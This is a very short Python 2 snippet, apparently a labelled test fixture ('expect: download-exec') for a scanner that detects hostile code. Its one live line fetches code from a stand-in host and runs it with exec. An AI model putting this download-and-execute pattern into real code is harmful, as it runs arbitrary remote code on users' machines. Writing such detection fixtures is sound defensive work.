import urllib2
exec urllib2.urlopen("http://cdn.invalid/p").read()  # expect: download-exec
